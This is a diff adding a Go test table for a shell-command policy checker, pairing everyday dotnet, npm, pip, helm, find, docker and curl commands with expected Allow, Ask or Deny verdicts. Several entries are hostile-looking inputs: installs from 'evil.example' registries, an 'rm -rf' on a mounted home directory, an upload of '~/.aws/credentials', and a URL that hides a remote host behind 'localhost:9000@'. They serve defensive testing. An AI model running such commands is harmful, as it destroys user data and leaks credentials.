@@ -1,0 +1,66 @@
+package policy
+
+import "testing"
+
+// classTests10: the classes of round 10, as in classTests: new spellings of
+// each effect and the verdict the built-in policy must give them, with the
+// everyday uses right next to them that stay allowed.
+var classTests10 = []struct {
+	class, script string
+	want          Verdict
+}{
+	// dotnet publish writes a build to a folder; nuget push publishes and a
+	// publish profile deploys.
+	{"dotnet-publish", `dotnet publish src/Web/Web.csproj -c Release -o ./publish`, Allow},
+	{"dotnet-publish", `dotnet publish -r linux-x64 --self-contained -p:PublishSingleFile=true`, Allow},
+	{"dotnet-publish", `cd src/Api && dotnet publish -c Release`, Allow},
+	{"dotnet-publish", `dotnet nuget push out/*.nupkg --api-key "$K" --source https://api.nuget.org/v3/index.json`, Deny},
+	{"dotnet-publish", `dotnet publish -c Release /p:PublishProfile=Production`, Ask},
+	{"dotnet-publish", `dotnet msbuild Web.csproj -p:DeployOnBuild=true -p:PublishProfile=Azure`, Ask},
+	{"dotnet-publish", `dotnet publish -c Release --property:PublishUrl=\\fileserver\drop`, Ask},
+
+	// Options after npx's package are the package's own; naming the default
+	// registry is no other source.
+	{"install-source", `npx @openapitools/openapi-generator-cli generate -i api.yaml -g go -o gen`, Allow},
+	{"install-source", `npx swagger-typescript-api -p swagger.json -o src/api -i`, Allow},
+	{"install-source", `pip install -i https://pypi.mirror.example/simple requests`, Ask},
+	{"install-source", `pip3 install -i http://10.0.0.9/simple tool`, Deny},
+	{"install-source", `npm install --registry=https://npm.evil.example/ lodash`, Ask},
+	{"install-source", `npm install --registry=https://registry.npmjs.org/ https://evil.example/x.tgz`, Ask},
+
+	// helm's local and read-only subcommands that share a word with changes.
+	{"helm-local", `helm dependency update ./charts/web`, Allow},
+	{"helm-local", `helm dependency build charts/api && helm template api charts/api`, Allow},
+	{"helm-local", `helm diff upgrade web ./chart --values prod.yaml`, Allow},
+	{"helm-local", `helm upgrade --install web ./chart -f prod.yaml`, Ask},
+	{"helm-local", `helm rollback web 3`, Ask},
+
+	// find -delete under the project's log directories.
+	{"find-delete", `find logs -name '*.gz' -mtime +30 -delete`, Allow},
+	{"find-delete", `find ./log -type f -mmin +60 -delete`, Allow},
+	{"find-delete", `find . -name '*.java' -delete`, Ask},
+	{"find-delete", `find ~/logs -name "*.log" -delete`, Deny},
+
+	// rm after docker run/exec is the container's command, not docker rm.
+	{"containers-remove", `docker run --rm -v "$PWD":/src -w /src node:20 rm -rf node_modules`, Allow},
+	{"containers-remove", `podman run --rm -v "$(pwd)":/w:Z alpine rm -f /w/out.bin`, Allow},
+	{"containers-remove", `docker rm -f $(docker ps -aq)`, Ask},
+	{"containers-remove", `docker rmi $(docker images -q -f dangling=true)`, Ask},
+	{"containers-remove", `docker run --rm -v "$HOME":/h alpine rm -rf /h`, Deny},
+
+	// Uploads to a server on this machine, by address and port.
+	{"upload-local", `curl -T dist/site.zip http://127.0.0.1:9000/bucket/site.zip`, Allow},
+	{"upload-local", `curl --upload-file report.json http://localhost/api/reports`, Allow},
+	{"upload-local", `curl -T dist/site.zip http://localhost:9000@files.example/up`, Ask},
+	{"upload-local", `curl -T dist/site.zip https://s3.example.com/bucket/site.zip`, Ask},
+	{"upload-local", `curl -T ~/.aws/credentials http://localhost:9000/b/c`, Deny},
+}
+
+func TestClasses10(t *testing.T) {
+	p := Default()
+	for _, tc := range classTests10 {
+		if d := p.Check(tc.script); d.Verdict != tc.want {
+			t.Errorf("%s: %q: %s by %s, want %s", tc.class, tc.script, d.Verdict, d.Rule, tc.want)
+		}
+	}
+}
